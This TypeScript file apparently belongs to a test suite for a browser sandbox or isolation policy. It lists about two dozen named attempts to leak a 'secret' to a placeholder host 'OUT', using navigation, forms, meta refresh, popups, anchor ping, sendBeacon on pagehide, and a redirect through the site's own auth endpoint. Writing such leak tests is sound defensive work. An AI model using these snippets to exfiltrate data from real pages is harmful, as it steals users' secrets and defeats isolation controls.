import type { Attempt } from './attempt.ts'

export const LEAVES: readonly Attempt[] = [
  { name: 'location', alone: 'always', js: `location = 'http://OUT/?' + secret` },
  { name: 'location-replace', alone: 'always', js: `location.replace('http://OUT/?' + secret)` },
  { name: 'navigation-api', alone: 'always', js: `navigation.navigate('http://OUT/?' + secret)` },
  { name: 'top-location', alone: 'unless-refused', js: `top.location = 'http://OUT/?' + secret` },
  { name: 'parent-location', alone: 'unless-refused', js: `parent.location = 'http://OUT/?' + secret` },
  { name: 'meta-refresh', alone: 'always', head: `<meta http-equiv="refresh" content="0; url=http://OUT/">` },
  {
    name: 'script-meta-refresh',
    alone: 'always',
    js: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0; url=http://OUT/' }))`,
  },
  {
    name: 'form-get',
    alone: 'unless-refused',
    html: `<form id="form-get" action="http://OUT/"><input name="s" value="secret"></form>`,
    js: `document.getElementById('form-get').submit()`,
  },
  {
    name: 'form-post',
    alone: 'unless-refused',
    html: `<form id="form-post" method="post" action="http://OUT/"><input name="s" value="secret"></form>`,
    js: `document.getElementById('form-post').submit()`,
  },
  {
    name: 'form-top',
    alone: 'unless-refused',
    html: `<form id="form-top" target="_top" action="http://OUT/"></form>`,
    js: `document.getElementById('form-top').submit()`,
  },
  {
    name: 'form-blank',
    click: true,
    html: `<form target="_blank" action="http://OUT/"><button id="GO">go</button></form>`,
  },
  {
    name: 'window-open',
    click: true,
    html: `<button id="GO" onclick="window.open('http://OUT/?' + document.title)">go</button>`,
  },
  { name: 'window-open-early', alone: 'unless-refused', js: `open('http://OUT/')` },
  {
    name: 'popup-then-location',
    click: true,
    html: `<button id="GO" onclick="window.open('about:blank').location = 'http://OUT/'">go</button>`,
  },
  { name: 'anchor', alone: 'always', click: true, html: `<a id="GO" href="http://OUT/">go</a>` },
  {
    name: 'anchor-blank',
    click: true,
    html: `<a id="GO" target="_blank" href="http://OUT/">go</a>`,
  },
  {
    name: 'anchor-opener',
    click: true,
    html: `<a id="GO" target="_blank" rel="opener" href="http://OUT/">go</a>`,
  },
  {
    name: 'anchor-top',
    alone: 'unless-refused',
    click: true,
    html: `<a id="GO" target="_top" href="http://OUT/">go</a>`,
  },
  {
    name: 'anchor-ping',
    click: true,
    html: `<a id="GO" href="#here" ping="http://OUT/">go</a>`,
  },
  {
    name: 'anchor-download',
    click: true,
    html: `<a id="GO" download href="http://OUT/a">go</a>`,
  },
  {
    name: 'svg-anchor',
    alone: 'always',
    click: true,
    html: `<svg width="99" height="99"><a href="http://OUT/"><rect id="GO" width="99" height="99"/></a></svg>`,
  },
  { name: 'javascript-address', alone: 'always', js: `location = "javascript:'<img src=http://OUT/a.gif>'"` },
  {
    name: 'unload',
    alone: 'always',
    js: `addEventListener('pagehide', () => navigator.sendBeacon('http://OUT/', secret)); location.replace('about:blank')`,
  },
  {
    name: 'redirect-by-us',
    alone: 'always',
    js: `location = 'OWN/auth?attack&redirect=' + encodeURIComponent('http://OUT/')`,
    inertBecause: 'nothing of ours redirects elsewhere',
  },
]
